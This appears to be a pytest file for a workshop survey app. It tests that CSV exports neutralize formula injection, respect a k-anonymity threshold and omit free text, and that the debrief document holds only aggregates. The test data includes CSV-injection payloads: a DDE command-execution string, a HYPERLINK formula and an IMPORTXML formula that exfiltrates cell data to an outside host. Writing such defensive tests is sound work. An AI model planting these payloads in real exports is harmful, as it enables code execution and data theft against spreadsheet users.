"""CSV exports neutralize formulas and never leave the k threshold or carry free text;
the debrief report is aggregates only; QR codes are real PNGs."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from docx import Document

from rapport.charts.room import DISTRIBUTION_HIDDEN
from rapport.core.framework import Framework
from rapport.core.room import summarize
from rapport.core.workshop import Workshop, WorkshopError, practice_results
from rapport.files.answers_file import to_json
from rapport.files.csv_exports import aggregates_csv, neutralize, responses_csv
from rapport.files.qr import qr_png
from rapport.reports.debrief import build_debrief
from rapport.usecases.workshops import anonymous
from tests.helpers import people, rows_for

HOSTILE = ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def _workshop(framework: Framework, k: int = 3) -> Workshop:
    moment = datetime(2026, 11, 27, tzinfo=UTC)
    return Workshop("w1", "K7P3QD", "=cmd|' /C calc'!A0", framework.id, framework.version, k,
                    True, True, frozenset(), moment, moment)  # fmt: skip


def _read(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_neutralized(text: str) -> None:
    assert neutralize(text) == "'" + text


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert neutralize(-0.5) == -0.5
    assert neutralize("Clear channels") == "Clear channels"
    assert neutralize(None) == ""
    assert neutralize(True) == "true"


def test_aggregates_csv(framework: Framework) -> None:
    room = people(framework, 4)
    summary = summarize(framework, 3, rows_for([practice_results(framework, p) for p in room]))
    rows = _read(aggregates_csv(framework, _workshop(framework), summary))
    assert rows[0][:4] == ["practice_id", "practice", "responses", "mean_current"]
    assert len(rows) == 1 + len(framework.practices)
    assert all(row[2] == "4" for row in rows[1:])
    assert all(row[-1] == "true" for row in rows[1:])


def test_responses_csv_has_ratings_only(framework: Framework) -> None:
    room = [anonymous(p) for p in people(framework, 3)]
    raw = responses_csv(framework, _workshop(framework), [to_json(p).decode() for p in room])
    text = raw.decode("utf-8-sig")
    assert "Secret Name" not in text and "ACME" not in text
    rows = _read(raw)
    assert rows[0][0] == "response"
    assert len(rows) == 4
    assert len(rows[1]) == 1 + framework.indicator_count + 2 * len(framework.practices)


def test_nothing_exported_below_k(framework: Framework) -> None:
    room = people(framework, 2)
    summary = summarize(framework, 3, rows_for([practice_results(framework, p) for p in room]))
    with pytest.raises(WorkshopError, match="2 of the 3 responses needed"):
        aggregates_csv(framework, _workshop(framework), summary)
    with pytest.raises(WorkshopError, match="Nothing to export yet"):
        responses_csv(framework, _workshop(framework), [to_json(p).decode() for p in room])


def test_hostile_practice_names_are_neutralized_in_the_export(framework: Framework) -> None:
    data = framework.model_dump()
    data["practices"][0]["name"] = '=IMPORTXML(CONCAT("http://x/",A1))'
    data["practices"][0]["short_name"] = "=IMPORTXML"
    hostile = Framework.model_validate(data)
    room = people(hostile, 3)
    summary = summarize(hostile, 3, rows_for([practice_results(hostile, p) for p in room]))
    rows = _read(aggregates_csv(hostile, _workshop(hostile), summary))
    assert rows[1][1].startswith("'=")


def test_debrief_is_aggregates_only(framework: Framework) -> None:
    room = people(framework, 5)
    summary = summarize(framework, 3, rows_for([practice_results(framework, p) for p in room]))
    raw = build_debrief(framework, _workshop(framework), summary, [], date(2026, 11, 27))
    doc = Document(io.BytesIO(raw))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Secret Name" not in text and "ACME" not in text
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
    assert "The room's profile" in headings
    assert any(h.startswith("Where the room disagrees most: ") for h in headings)
    # Its text cites no source, so it lists none (APA lists only what is cited).
    assert "References" not in headings
    assert doc.tables[0].rows[0].cells[0].text == "Practice"
    assert doc.tables[0].rows[0].cells[5].text == "Spread"
    assert "Spread is the standard deviation of the practice scores" in text
    assert len(doc.tables[0].rows) == 1 + len(framework.practices)
    # Five responses with k = 3: fewer than 2k, so the level counts are left out, and said so.
    assert DISTRIBUTION_HIDDEN in text
    bigger = people(framework, 15)  # spread enough that every practice's counts are safe
    spread = summarize(framework, 3, rows_for([practice_results(framework, p) for p in bigger]))
    raw = build_debrief(framework, _workshop(framework), spread, [], date(2026, 11, 27))
    assert DISTRIBUTION_HIDDEN not in "\n".join(
        p.text for p in Document(io.BytesIO(raw)).paragraphs
    )


def test_debrief_below_k_says_so(framework: Framework) -> None:
    summary = summarize(
        framework, 5, rows_for([practice_results(framework, people(framework, 1)[0])])
    )
    doc = Document(
        io.BytesIO(
            build_debrief(framework, _workshop(framework, 5), summary, [], date(2026, 11, 27))
        )
    )
    assert "Fewer than 5 responses" in "\n".join(p.text for p in doc.paragraphs)


def test_qr_png_is_large_enough_to_scan_from_afar() -> None:
    png = qr_png("http://localhost:8501/?join=K7P3QD")
    assert png.startswith(b"\x89PNG")
    width = int.from_bytes(png[16:20], "big")
    assert width >= 300
